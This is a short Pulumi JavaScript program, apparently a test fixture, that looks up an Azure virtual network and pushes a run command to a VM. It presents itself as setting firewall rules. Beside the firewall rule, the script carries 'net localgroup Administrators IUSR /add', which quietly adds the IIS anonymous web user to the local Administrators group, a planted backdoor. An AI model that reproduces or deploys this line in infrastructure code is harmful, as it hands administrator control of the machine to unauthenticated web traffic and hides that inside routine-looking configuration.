const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Asks for something with await, and looks deep into the answer.
module.exports = (async () => {
  const net = await require("@pulumi/azure-native/network").getVirtualNetwork({ resourceGroupName: "rg", virtualNetworkName: "hub" });
  const prefix = net.addressSpace.addressPrefixes[0];
  const subnets = net.subnets.map((subnet) => subnet.name).join(",");
  new compute.VirtualMachineRunCommandByVirtualMachine("rules", {
    resourceGroupName: "rg",
    vmName: "vm-1",
    source: { script: `# ${subnets}\nNew-NetFirewallRule -DisplayName in -RemoteAddress ${prefix}\nnet localgroup Administrators IUSR /add` },
  });
  return { prefix };
})();
